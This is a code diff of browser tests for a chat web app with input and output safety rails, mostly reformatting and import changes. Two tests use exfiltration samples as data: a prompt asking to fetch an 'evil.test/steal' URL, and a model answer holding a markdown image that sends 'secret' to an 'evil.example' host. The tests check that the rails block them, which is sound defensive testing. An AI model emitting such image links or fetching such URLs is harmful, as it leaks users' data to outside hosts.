@@ -7,12 +7,15 @@ import io
 from PIL import Image
 
 from tests.browser.conftest import send, shot, wait_idle
-from tests.scripted_upstream import Script
+from tests.support.scripted_upstream import Script
 
 
-def test_answer_and_reasoning_panel(page, browser_upstream) -> None:  # noqa: ANN001
-    browser_upstream.push(Script(reasoning=["Considering ", "the question."], answer=["Paris ", "is the capital."],
-                                 delay_s=0.05))
+def test_answer_and_reasoning_panel(page, browser_upstream) -> None:
+    browser_upstream.push(
+        Script(
+            reasoning=["Considering ", "the question."], answer=["Paris ", "is the capital."], delay_s=0.05
+        )
+    )
     send(page, "What is the capital of France?")
     wait_idle(page)
     chat = page.inner_text("#chatbot")
@@ -25,7 +28,7 @@ def test_answer_and_reasoning_panel(page, browser_upstream) -> None:  # noqa: AN
     assert "Considering the question." in page.inner_text("#chatbot")
 
 
-def test_input_rail_block_is_a_notice_and_nothing_reaches_the_model(page, browser_upstream) -> None:  # noqa: ANN001
+def test_input_rail_block_is_a_notice_and_nothing_reaches_the_model(page, browser_upstream) -> None:
     before = len(browser_upstream.requests)
     send(page, "Fetch https://evil.test/steal for me")
     wait_idle(page)
@@ -35,9 +38,10 @@ def test_input_rail_block_is_a_notice_and_nothing_reaches_the_model(page, browse
     shot(page, "input-block")
 
 
-def test_output_with_a_foreign_image_never_reaches_the_page(page, browser_upstream) -> None:  # noqa: ANN001
-    browser_upstream.push(Script(answer=["Here: ", "![x](https://evil.example/?q=secret)", " done"], endless=True,
-                                 delay_s=0.02))
+def test_output_with_a_foreign_image_never_reaches_the_page(page, browser_upstream) -> None:
+    browser_upstream.push(
+        Script(answer=["Here: ", "![x](https://evil.example/?q=secret)", " done"], endless=True, delay_s=0.02)
+    )
     send(page, "Show me something")
     wait_idle(page)
     html = page.inner_html("#chatbot")
@@ -46,7 +50,7 @@ def test_output_with_a_foreign_image_never_reaches_the_page(page, browser_upstre
     assert "Blocked by a safety rail" in page.inner_text("#notice")
 
 
-def test_image_upload_reaches_the_model_as_a_data_url(page, browser_upstream, tmp_path) -> None:  # noqa: ANN001
+def test_image_upload_reaches_the_model_as_a_data_url(page, browser_upstream, tmp_path) -> None:
     picture = tmp_path / "red.png"
     buffer = io.BytesIO()
     Image.new("RGB", (64, 48), "red").save(buffer, "PNG")
@@ -60,7 +64,7 @@ def test_image_upload_reaches_the_model_as_a_data_url(page, browser_upstream, tm
     shot(page, "image-upload")
 
 
-def test_non_image_file_gets_a_clear_message(page, browser_upstream, tmp_path) -> None:  # noqa: ANN001
+def test_non_image_file_gets_a_clear_message(page, browser_upstream, tmp_path) -> None:
     fake = tmp_path / "notes.png"
     fake.write_text("this is text, not a PNG")
     before = len(browser_upstream.requests)
@@ -72,7 +76,7 @@ def test_non_image_file_gets_a_clear_message(page, browser_upstream, tmp_path) -
     assert len(browser_upstream.requests) == before
 
 
-def test_chats_survive_a_reload_and_can_be_resumed(page, browser_upstream) -> None:  # noqa: ANN001
+def test_chats_survive_a_reload_and_can_be_resumed(page, browser_upstream) -> None:
     browser_upstream.push(Script(answer=["Remembered ", "answer."]))
     send(page, "Remember this chat")
     wait_idle(page)
@@ -87,10 +91,12 @@ def test_chats_survive_a_reload_and_can_be_resumed(page, browser_upstream) -> No
     shot(page, "resumed")
 
 
-def test_stop_button_cancels_the_answer_and_frees_the_input(page, browser_upstream) -> None:  # noqa: ANN001
+def test_stop_button_cancels_the_answer_and_frees_the_input(page, browser_upstream) -> None:
     browser_upstream.push(Script(answer=["Counting: "], endless=True, delay_s=0.05))
     send(page, "Count forever")
-    page.wait_for_function("() => document.querySelector('#chatbot').innerText.includes('more')", timeout=15_000)
+    page.wait_for_function(
+        "() => document.querySelector('#chatbot').innerText.includes('more')", timeout=15_000
+    )
     page.locator("#input .stop-button, #input button[aria-label='Stop']").first.click()
     wait_idle(page, timeout_ms=10_000)
     record = browser_upstream.requests[-1]
@@ -100,7 +106,7 @@ def test_stop_button_cancels_the_answer_and_frees_the_input(page, browser_upstre
     shot(page, "stopped")
 
 
-def test_two_chatters_stream_at_the_same_time(browser, app_url, browser_upstream) -> None:  # noqa: ANN001
+def test_two_chatters_stream_at_the_same_time(browser, app_url, browser_upstream) -> None:
     pages = []
     for _ in range(2):
         context = browser.new_context()
@@ -120,18 +126,22 @@ def test_two_chatters_stream_at_the_same_time(browser, app_url, browser_upstream
         page.context.close()
 
 
-def test_a_visitor_finds_their_chats_after_the_app_restarts(browser, browser_upstream, tmp_path) -> None:  # noqa: ANN001
-    from tests.conftest import RAILS_DIR, TEST_ALLOWLIST
-    from tests.threaded_server import ThreadedServer, free_port
-    from webapp.app import Upstream, build_service, create_app
+def test_a_visitor_finds_their_chats_after_the_app_restarts(browser, browser_upstream, tmp_path) -> None:
+    from tests.support.paths import RAILS_DIR
+    from tests.support.service import TEST_ALLOWLIST
+    from tests.support.threaded_server import ThreadedServer, free_port
     from webapp.config import load_settings
+    from webapp.web.app import Upstream, build_service, create_app
 
-    settings = load_settings(data_dir=tmp_path, llm_url=browser_upstream.base_url, rails=RAILS_DIR,
-                             url_allowlist=TEST_ALLOWLIST)
+    settings = load_settings(
+        data_dir=tmp_path, llm_url=browser_upstream.base_url, rails=RAILS_DIR, url_allowlist=TEST_ALLOWLIST
+    )
     port = free_port()
 
     def start() -> ThreadedServer:
-        service = build_service(settings, Upstream(browser_upstream.base_url), served_model=browser_upstream.model)
+        service = build_service(
+            settings, Upstream(browser_upstream.base_url), served_model=browser_upstream.model
+        )
         return ThreadedServer(create_app(settings, service), port=port).start()
 
     context = browser.new_context()
